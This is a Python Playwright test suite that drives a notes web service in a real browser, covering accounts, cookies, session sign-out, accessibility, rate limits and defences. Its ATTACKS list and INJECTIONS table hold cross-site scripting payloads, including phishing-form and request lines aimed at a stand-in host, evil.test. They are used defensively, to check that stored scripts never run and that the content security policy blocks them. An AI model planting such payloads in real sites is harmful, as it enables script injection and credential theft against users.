"""Users and attackers of the service, in a real browser over TLS."""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.live.conftest import Service, running_chromium
from tests.live.person import (
    FIRST,
    SECOND,
    THIRD,
    Person,
    begin_by_keyboard,
    delete_by_keyboard,
    enter,
    on_two_devices,
    tab_to,
)

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Playwright

pytestmark = pytest.mark.browser


def test_from_signing_up_to_signing_out(person: Person) -> None:
    page = person.page
    person.look("/")
    person.look("/auth/register")
    person.fill("Send the link", email="somebody@nowhere")
    page.locator("main .error").first.wait_for()
    person.look()
    person.fill("Send the link", email=person.email)
    page.wait_for_url("**/auth/login")
    person.look()
    person.look(person.link("confirm"))
    person.fill("Set the password", password=FIRST, confirm=SECOND)
    page.locator("main .error").first.wait_for()
    assert page.url == f"{person.origin}/auth/confirm"  # the token has left the address
    person.look()
    person.fill("Set the password", password=FIRST, confirm=FIRST)
    page.wait_for_url("**/auth/login")
    person.look()
    person.look(person.link("confirm"), status=404)
    person.accept("status of 404")
    person.sign_in(FIRST)
    page.wait_for_url("**/notes/")
    person.look()

    person.look("/notes/new")
    person.fill("Save", title="Shopping", body="- milk\n\nand **bread**")
    page.locator(".rich strong", has_text="bread").wait_for()
    assert page.locator(".rich li").inner_text() == "milk"
    person.look()
    page.get_by_role("link", name="Edit").click()
    person.look()
    person.fill("Save", title=" ")
    page.locator("main .error").first.wait_for()
    person.look()
    person.fill("Save", title="Groceries")
    page.get_by_role("heading", name="Groceries").wait_for()
    person.look("/notes/")
    assert page.get_by_role("link", name="Groceries").is_visible()

    person.look("/account/")
    person.look("/account/password")
    person.fill(
        "Change the password",
        current_password=FIRST,
        new_password=SECOND,
        confirm=SECOND,
    )
    page.wait_for_url("**/account/")
    person.look()

    person.sign_out()
    person.look()
    person.sign_in(FIRST)
    page.locator("main .notice-error").wait_for()
    person.look()
    person.accept("status of 4(01|22)")  # a form that was filled in wrongly, four times
    page.get_by_role("link", name="Forgot your password?").click()
    page.get_by_role("heading", name="Forgot your password?").wait_for()
    person.look()
    person.fill("Send the link", email=person.email)
    page.wait_for_url("**/auth/login")
    person.look(person.link("reset"))
    person.fill("Set the password", password=THIRD, confirm=THIRD)
    page.wait_for_url("**/auth/login")
    person.sign_in(THIRD)
    page.get_by_role("link", name="Groceries").click()
    page.get_by_text("Delete this note").click()
    person.look()
    page.get_by_role("button", name="Delete it for good").click()
    page.wait_for_url("**/notes/")
    assert page.get_by_text("Groceries").count() == 0


def test_from_another_address_to_the_end_of_the_account(person: Person, tmp_path: Path) -> None:
    page, old, new = person.page, person.email, f"new-{person.email}"
    person.sign_up()
    person.write("Shopping", "milk")
    page.goto("/account/")
    page.get_by_role("link", name="Change your address").click()
    page.get_by_role("heading", name="Change your address").wait_for()
    person.look()
    person.fill("Send the link", email="somebody@nowhere")
    page.locator("main .error").first.wait_for()
    person.look()
    person.fill("Send the link", email=new)
    page.wait_for_url("**/account/")
    person.look()
    person.look(person.link("email", new))
    person.fill("Change the address")
    page.wait_for_url("**/account/")
    person.look()
    assert page.get_by_text(new).is_visible()

    person.look(person.link("undo"))  # in the notice to the old address
    assert page.locator("main strong", has_text=old).is_visible()
    person.fill("Set the password", password=SECOND, confirm=SECOND)
    page.wait_for_url("**/auth/login")
    person.look()
    person.fill("Sign in", email=new, password=SECOND)
    page.locator("main .notice-error").wait_for()
    person.sign_in(SECOND)
    page.wait_for_url("**/notes/")

    page.goto("/account/")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download your data").click()
    assert download.value.suggested_filename == "account-data.json"
    download.value.save_as(tmp_path / "account-data.json")
    data = json.loads((tmp_path / "account-data.json").read_text("utf-8"))
    assert data["account"]["email"] == old
    assert [note["title"] for note in data["notes"]] == ["Shopping"]
    assert len(data["devices"]) == 1, "the browser stayed known"

    page.get_by_role("link", name="Delete your account").click()
    page.get_by_role("heading", name="Delete your account").wait_for()
    person.look()
    person.fill("Delete the account for good")
    page.get_by_role("heading", name="Your account is deleted").wait_for()
    person.look()
    assert person.context.cookies() == []
    person.sign_in(SECOND)
    page.locator("main .notice-error").wait_for()
    person.accept("status of 4(01|22)")  # three forms that were filled in wrongly


def test_nothing_personal_comes_back_from_history(person: Person) -> None:
    person.sign_up()
    person.write("A secret title", "a secret body")
    person.page.goto("/account/")
    person.sign_out()
    for _ in range(3):
        person.page.go_back()
        shown = person.page.content()
        assert "secret" not in shown
        assert person.email not in shown
    person.page.goto("/notes/")
    assert "/auth/login?next=" in person.page.url


def test_other_devices_are_signed_out(new_person: Callable[[], Person]) -> None:
    """At once: the history of the other browser shows no page of its session."""
    here, there = new_person(), new_person()
    here.sign_up()
    here.write("A secret title", "a secret body")
    there.email = here.email
    there.sign_in(FIRST)
    there.page.get_by_role("link", name="A secret title").click()
    there.page.goto("/")
    here.look("/account/")
    here.page.get_by_role("button", name="Sign out everywhere else").click()
    here.page.wait_for_url("**/account/")
    here.look("/account/")
    for _ in range(2):
        there.page.go_back()
        assert "/auth/login" in there.page.url
        assert "secret" not in there.page.content()


def test_the_cookies_are_out_of_reach(person: Person) -> None:
    """The session's cookie ends with the browser; the device's cookie stays as long as allowed."""
    person.sign_up()
    session, device = sorted(person.context.cookies(), key=lambda it: it["expires"])
    token = device["value"]
    days = (device.pop("expires") - time.time()) / (24 * 60 * 60)
    assert 399 < days <= 400
    assert session.pop("expires") == -1
    for cookie, name in ((session, "__Host-session"), (device, "__Host-device")):
        cookie.pop("value")
        assert cookie == {
            "name": name,
            "domain": person.origin.removeprefix("https://"),
            "path": "/",
            "httpOnly": True,
            "secure": True,
            "sameSite": "Lax",
        }
    assert person.page.evaluate("() => document.cookie") == ""
    person.sign_out()
    assert {it["name"]: it["value"] for it in person.context.cookies()}["__Host-device"] == token


ATTACKS = [
    "<script>document.title = 'XSS'</script>",
    "<img src=x onerror=\"document.title = 'XSS'\">",
    "<svg><script>document.title = 'XSS'</script></svg>",
    "<svg onload=\"document.title = 'XSS'\"><animate onbegin=\"document.title = 'XSS'\">",
    "<a href=\"javascript:document.title = 'XSS'\">click</a>",
    "<a href=\"java&#10;script:document.title = 'XSS'\">click</a>",
    "<iframe srcdoc=\"<script>parent.document.title = 'XSS'</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title = 'XSS'\">",
    "<form action=https://evil.test><input name=password><button>Sign in</button></form>",
    "<style>@import 'https://evil.test/x.css';</style><img src=https://evil.test/pixel>",
    "<base href=https://evil.test/><meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<details open ontoggle=\"document.title = 'XSS'\">",
    "\"><script>document.title = 'XSS'</script><p title=\"",
]


def test_stored_script_never_runs(person: Person) -> None:
    """Stored markup runs nowhere: list, note, form. No request goes to another host."""
    page = person.page
    person.sign_up()
    for attack in ATTACKS:
        person.write(attack[:120], f"A note. {attack}")
        links = page.locator(".rich a")
        for index in range(links.count()):
            links.nth(index).click(no_wait_after=True)
        assert page.title().startswith(attack[:120].rstrip()), "the title is shown as text"
        page.get_by_role("link", name="Edit").click()
        assert page.locator("[name=title]").input_value() == attack[:120]
    person.look("/notes/")
    assert page.title().startswith("Your notes")
    assert page.locator("main script, main iframe, main form, main img").count() == 0


INJECTIONS = {
    "script": "document.createElement('script').text = 'document.title = 1'",
    "markup": "document.body.innerHTML = '<b>injected</b>'",
    "handler": "document.body.setAttribute('onclick', 'document.title = 1')",
    "file": "document.body.append(Object.assign(document.createElement('script'), {src: '/x.js'}))",
    "image": "document.body.append(Object.assign(new Image(), {src: 'https://evil.test/'}))",
    "style": "document.body.setAttribute('style', 'color: red')",
    "request": "fetch('https://evil.test/')",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: '/'}))",
}


@pytest.mark.parametrize("injection", INJECTIONS)
def test_the_content_security_policy_stops_injected_markup(person: Person, injection: str) -> None:
    """Each violation becomes a problem of the person; in other tests it is a failure."""
    person.page.goto("/")
    with suppress(Exception):  # Trusted Types raise a TypeError
        person.page.evaluate(f"() => {{ {INJECTIONS[injection]} }}")
    person.accept("violation of ")
    person.page.wait_for_timeout(100)  # the others of the same cause
    person.problems.clear()
    assert person.page.title() not in ("", "1"), "no script wrote it"


@pytest.mark.parametrize(
    ("path", "status"),
    [
        pytest.param("/nothing", 404, id="of the app"),
        pytest.param("/.nginx/error.html", 404, id="of Nginx"),
    ],
)
def test_error_pages(person: Person, path: str, status: int) -> None:
    person.look(path, status)
    person.accept(f"status of {status}")


def test_the_keyboard_is_enough(person: Person) -> None:
    page = person.page
    page.goto("/")
    tab_to(page, "Skip to the content")
    page.keyboard.press("Enter")
    tab_to(page, "Sign up")
    enter(page)
    tab_to(page, "E-mail")
    page.keyboard.type(person.email)
    enter(page)
    page.wait_for_url("**/auth/login")
    page.goto(person.link("confirm"))
    for label in ("Password", "Repeat the password"):
        tab_to(page, label)
        page.keyboard.type(FIRST)
    enter(page)
    page.wait_for_url("**/auth/login")
    for label, text in (("E-mail", person.email), ("Password", FIRST)):
        tab_to(page, label)
        page.keyboard.type(text)
    enter(page)
    page.wait_for_url("**/notes/")
    begin_by_keyboard(page)
    page.keyboard.press("Control+A")
    tab_to(page, "Bold", key="Shift+Tab")
    page.keyboard.press("Enter")
    assert page.get_by_label("Body").input_value() == "**no mouse**"
    tab_to(page, "Preview")
    enter(page)
    page.locator(".preview strong", has_text="no mouse").wait_for()
    tab_to(page, "Save")
    enter(page)
    page.get_by_role("heading", name="By keyboard").wait_for()
    tab_to(page, "Edit")
    enter(page)
    tab_to(page, "Title")
    page.keyboard.press("End")
    page.keyboard.type(" alone")
    enter(page)
    page.get_by_role("heading", name="By keyboard alone").wait_for()
    delete_by_keyboard(page)
    page.wait_for_url("**/notes/")
    tab_to(page, "Sign out")
    enter(page)
    page.wait_for_url(f"{person.origin}/")


def test_the_keyboard_is_enough_to_end_sessions_and_account(
    new_person: Callable[[], Person],
) -> None:
    here, _ = on_two_devices(new_person)
    page = here.page
    tab_to(page, "Account")
    enter(page)
    tab_to(page, "Sign out everywhere else")
    enter(page)
    here.reads("Sessions ended: 1.")
    tab_to(page, "Delete your account")
    enter(page)
    tab_to(page, "Delete the account for good")
    enter(page)
    page.get_by_role("heading", name="Your account is deleted").wait_for()


def test_everything_works_without_script(
    chromium: Browser, service: Service, new_person: Callable[[], Person]
) -> None:
    person = new_person()
    person.context = chromium.new_context(base_url=service.origin, java_script_enabled=False)
    person.page = person.context.new_page()
    person.sign_up()
    person.write("Without script", "plain")
    person.sign_out()
    person.context.close()


def test_times_are_those_of_the_reader(
    chromium: Browser, service: Service, new_person: Callable[[], Person]
) -> None:
    """Times are in the zone and language of the browser; without JavaScript in UTC."""
    person = new_person()
    person.sign_up()
    shown = person.context.storage_state()
    known = {"base_url": service.origin, "storage_state": shown}
    there = chromium.new_context(**known, timezone_id="Asia/Tokyo", locale="de-DE")
    page = there.new_page()
    page.goto("/account/")
    time_of = page.locator("main time").first
    moment = time_of.get_attribute("datetime")
    expected = page.evaluate(
        "(moment) => new Intl.DateTimeFormat('de-DE', { dateStyle: 'medium', timeStyle: 'short',"
        " timeZone: 'Asia/Tokyo' }).format(new Date(moment))",
        moment,
    )
    assert time_of.inner_text() == expected
    assert time_of.get_attribute("lang") == "de-DE"
    assert time_of.get_attribute("title").endswith(" UTC")
    there.close()
    plain = chromium.new_context(**known, java_script_enabled=False)
    page = plain.new_page()
    page.goto("/account/")
    assert page.locator("main time").first.inner_text().endswith(" UTC")
    plain.close()


SEND_UNTIL_REFUSED = """async (token) => {
  const body = new URLSearchParams({ csrf_token: token, title: "" });
  for (let sent = 0; sent < 60; sent += 1) {
    await fetch("/notes/new", { method: "POST", body });
    await new Promise((done) => { setTimeout(done, 60); }); // below what Nginx allows
  }
}"""


def test_a_text_that_meets_a_limit_is_still_there(person: Person) -> None:
    page = person.page
    person.sign_up()
    page.goto("/notes/new")
    token = page.locator("main [name=csrf_token]").input_value()
    page.evaluate(SEND_UNTIL_REFUSED, token)
    person.fill("Save", title="Written for an hour", body="*All of it*")
    person.reads("Your text is still here.")
    assert page.locator("main [name=body]").input_value() == "*All of it*"
    person.look()
    person.accept("status of 4(22|29)")
    person.service.ask("reset", "limits")
    person.press("Send")
    page.locator("h1", has_text="Written for an hour").wait_for()


def test_plain_http_leads_to_https(person: Person) -> None:
    person.problems.clear()
    response = person.page.goto(person.origin.replace("https", "http") + "/auth/login")
    assert response
    assert response.url == f"{person.origin}/auth/login"
    person.accept("third party: http://")


def test_another_authority_is_not_believed(
    playwright: Playwright, service: Service, tmp_path: Path
) -> None:
    """A browser without our authority refuses the certificate, so the other tests verify it."""
    with (
        running_chromium(playwright, service, tmp_path) as browser,
        pytest.raises(Exception, match="ERR_CERT_AUTHORITY_INVALID"),
    ):
        browser.new_page().goto(service.origin)
